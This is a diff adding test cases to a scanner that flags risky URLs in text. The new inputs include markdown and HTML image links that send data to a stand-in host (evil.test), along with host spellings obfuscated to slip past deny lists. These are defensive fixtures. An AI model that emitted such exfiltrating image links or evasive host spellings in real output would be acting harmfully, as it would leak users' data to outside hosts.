@@ -64,6 +64,12 @@ def test_invisible_text(text: str, found: list[tuple[str, str]]) -> None:
         ("javascript:alert(1)", {}, ["active_scheme"]),
         ("ht\u200btps://evil.test/", {"deny": ["evil.test"]}, ["denied_host"]),
         ("note: nothing here", {}, []),
+        ('<img alt="x" src="https://evil.test/p?d=' + "a" * 40 + '">', {}, ["carries_data"]),
+        ("![x][1]\n\n[1]: https://evil.test/p?d=" + "a" * 40, {}, ["carries_data"]),
+        ("see [x][1]\n\n[2]: https://evil.test/p?d=" + "a" * 40, {}, []),
+        ("https:evil.test/a https:///evil.test/a", {"deny": ["evil.test"]}, ["denied_host"] * 2),
+        ("https://evil\u3002test/a https://evil%2etest/a", {"deny": ["evil.test"]}, ["denied_host"] * 2),
+        ("[x](//evil.test/a) and // a comment, or //evil.test", {"allow": ["good.test"]}, ["unlisted_host"]),
     ],
 )
 def test_urls(text: str, rules: dict[str, object], found: list[str]) -> None:
@@ -76,6 +82,7 @@ def test_languages() -> None:
     assert kinds(german, language={"deny": ["de"]}) == [("de", german)]
     assert kinds(german, language={"allow": ["de"]}) == []
     assert kinds("Hallo du", language={"allow": ["en"]}) == [], "too short to tell"
+    assert kinds("aaaa bbbb cccc dddd eeee ffff", language={"allow": ["en"]}) == [], "no language at all"
 
 
 def test_topics() -> None:
